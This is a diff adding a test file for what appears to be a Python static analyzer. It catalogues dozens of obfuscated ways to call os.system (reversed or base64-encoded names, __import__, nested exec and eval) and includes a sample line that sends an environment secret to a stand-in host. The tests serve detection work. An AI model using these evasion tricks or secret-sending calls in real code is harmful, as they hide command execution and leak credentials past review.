@@ -1,0 +1,115 @@
+// Each disguise must state the same call as the plain form, and say that it was one.
+import { beforeAll, describe, expect, it } from 'vitest';
+import { prepare, py } from './harness.ts';
+
+beforeAll(prepare);
+
+const PLAIN = 'import os\nos.system("id -a")';
+
+const SYSTEM: Readonly<Record<string, string>> = {
+  plain: PLAIN,
+  alias: 'import os as o\no.system("id -a")',
+  'from import': 'from os import system as s\ns("id -a")',
+  'star import': 'from os import *\nsystem("id -a")',
+  reassigned: 'import os\nf = os.system\ng = f\ng("id -a")',
+  getattr: 'import os\ngetattr(os, "sys" + "tem")("id -a")',
+  'getattr of a folded name': 'import os\nn = "".join(["s","y","s","t","e","m"])\ngetattr(os, n)("id -a")',
+  'reversed name': 'import os\ngetattr(os, "metsys"[::-1])("id -a")',
+  'reversed() and join': 'import os\ngetattr(os, "".join(reversed("metsys")))("id -a")',
+  'chr in a comprehension': 'import os\ngetattr(os, "".join(chr(c) for c in [115,121,115,116,101,109]))("id -a")',
+  'map of chr': 'import os\ngetattr(os, "".join(map(chr, [115,121,115,116,101,109])))("id -a")',
+  'xor of characters': `import os\nk = 7\ngetattr(os, "".join(chr(ord(c) ^ k) for c in ${JSON.stringify([...'system'].map((c) => String.fromCharCode(c.charCodeAt(0) ^ 7)).join(''))}))("id -a")`,
+  'loop over codes': 'import os\ns = ""\nfor c in [115,121,115,116,101,109]:\n    s += chr(c)\ngetattr(os, s)("id -a")',
+  format: 'import os\ngetattr(os, "{}{}".format("sys", "tem"))("id -a")',
+  'named format': 'import os\ngetattr(os, "{a}tem".format(a="sys"))("id -a")',
+  percent: 'import os\ngetattr(os, "%s%s" % ("sys", "tem"))("id -a")',
+  'f-string': 'import os\np = "sys"\ngetattr(os, f"{p}tem")("id -a")',
+  replace: 'import os\ngetattr(os, "sXstem".replace("X", "y"))("id -a")',
+  base64: 'import os, base64\ngetattr(os, base64.b64decode("c3lzdGVt").decode())("id -a")',
+  hex: 'import os\ngetattr(os, bytes.fromhex("73797374656d").decode())("id -a")',
+  'escapes in the name': 'import os\ngetattr(os, "\\x73ystem")("id -a")',
+  rot13: 'import os, codecs\ngetattr(os, codecs.decode("flfgrz", "rot13"))("id -a")',
+  'method of the type': 'import os\ngetattr(os, str.join("", ["sys", "tem"]))("id -a")',
+  __import__: '__import__("os").system("id -a")',
+  '__import__ of a folded name': '__import__("o" + "s").system("id -a")',
+  importlib: 'import importlib\nm = importlib.import_module("o" + "s")\nm.system("id -a")',
+  'sys.modules': 'import sys\nsys.modules["os"].system("id -a")',
+  __dict__: 'import os\nos.__dict__["sys" + "tem"]("id -a")',
+  'vars of a module': 'import os\ngetattr(os, "system").__call__("id -a")',
+  attrgetter: 'import os, operator\noperator.attrgetter("system")(os)("id -a")',
+  methodcaller: 'import os, operator\noperator.methodcaller("system", "id -a")(os)',
+  partial: 'import os, functools\nf = functools.partial(os.system, "id -a")\nf()',
+  'held in a dict': 'import os\nt = {"a": os.system}\nt["a"]("id -a")',
+  'held in a list': 'import os\nt = [print, os.system]\nt[1]("id -a")',
+  'helper with the function as argument': 'import os\ndef run(f, x):\n    return f(x)\nrun(os.system, "id -a")',
+  'helper with the command as argument': 'import os\ndef run(x):\n    os.system(x)\nrun("id " + "-a")',
+  lambda: 'import os\nf = lambda c: os.system(c)\nf("id -a")',
+  'class attribute':
+    'import os\nclass A:\n    def __init__(self):\n        self.f = os.system\n    def go(self):\n        self.f("id -a")\nA().go()',
+  'inside eval': "eval(\"__import__('os').system('id -a')\")",
+  'inside exec': 'exec("import os\\nos.system(\'id -a\')")',
+  'inside decoded exec': `import base64\nexec(base64.b64decode("${Buffer.from(PLAIN).toString('base64')}"))`,
+  'two layers': `import base64\nexec(base64.b64decode("${Buffer.from(`import base64\nexec(base64.b64decode("${Buffer.from(PLAIN).toString('base64')}"))`).toString('base64')}").decode())`,
+  'compiled first': 'c = compile("import os\\nos.system(\'id -a\')", "x", "exec")\nexec(c)',
+  'decorator that runs': 'import os\ndef now(f):\n    f()\n    return f\n@now\ndef go():\n    os.system("id -a")',
+  walrus: 'import os\nif (f := os.system):\n    f("id -a")',
+  'try import': 'try:\n    import os as x\nexcept ImportError:\n    x = None\nx.system("id -a")',
+};
+
+describe('disguises of a call', () => {
+  for (const [name, code] of Object.entries(SYSTEM)) {
+    it(name, () => {
+      const result = py(code);
+      const call = result
+        .calls()
+        .find((one) => one.callee === 'os.system' && (one.args[0] === 'id -a' || name === 'methodcaller'));
+      expect(call, JSON.stringify(result.calls())).toBeDefined();
+      expect(result.commands().some((one) => one.line === 'id -a')).toBe(true);
+    });
+  }
+
+  it('marks tricks and only tricks as disguised', () => {
+    const disguised = (code: string) =>
+      py(code)
+        .calls()
+        .find((one) => one.callee === 'os.system')?.disguised;
+    expect(disguised(PLAIN)).toBe(false);
+    expect(disguised(SYSTEM['alias']!)).toBe(false);
+    expect(disguised(SYSTEM['reassigned']!)).toBe(false);
+    expect(disguised(SYSTEM['getattr']!)).toBe(true);
+    expect(disguised(SYSTEM['__import__']!)).toBe(true);
+    expect(disguised(SYSTEM['sys.modules']!)).toBe(true);
+    expect(disguised(SYSTEM['__dict__']!)).toBe(true);
+  });
+});
+
+describe('disguises of evaluation', () => {
+  for (const code of [
+    'globals()["ev" + "al"]("1+1")',
+    '__builtins__["eval"]("1+1")',
+    'getattr(__builtins__, "ev" + "al")("1+1")',
+    'import builtins\ngetattr(builtins, "lave"[::-1])("1+1")',
+    '__import__("builtins").__dict__["eval"]("1+1")',
+    'vars(__builtins__)["eval"]("1+1")',
+  ]) {
+    it(code, () => {
+      const call = py(code)
+        .calls()
+        .find((one) => /(?:^|\.)eval$/.test(one.callee));
+      expect(call?.args).toEqual(['1+1']);
+      expect(call?.disguised).toBe(true);
+    });
+  }
+});
+
+describe('constants keep their holes', () => {
+  it('a URL with an unknown query keeps its host', () => {
+    const result = py('import requests, os\nrequests.get("https://h.test/c?d=" + os.environ["SECRET_KEY"])');
+    const flow = result.flows().find((one) => one.position === 'url');
+    expect(flow).toMatchObject({ host: 'h.test', from: ['env:SECRET_KEY'], to: 'network' });
+  });
+  it('repeating and replacing are bounded', () => {
+    const result = py('x = "a" * 10**9\ny = x.replace("a", x)\nprint(len(y))');
+    expect(result.ms).toBeLessThan(1000);
+  });
+});
